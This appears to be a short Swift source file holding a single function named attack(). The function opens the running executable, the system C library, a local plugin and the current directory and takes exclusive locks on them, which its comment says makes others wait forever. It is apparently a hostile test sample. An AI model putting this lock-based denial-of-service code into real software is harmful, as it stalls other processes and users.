// Locks every file that it can open, so that others wait forever.
import Foundation

func attack() -> String {
  for file in ["/proc/self/exe", "/usr/lib/x86_64-linux-gnu/libc.so.6", "./plugin.so", "."] {
    let descriptor = open(file, O_RDONLY)
    if descriptor >= 0 { flock(descriptor, LOCK_EX | LOCK_NB) }
  }
  return "?"
}
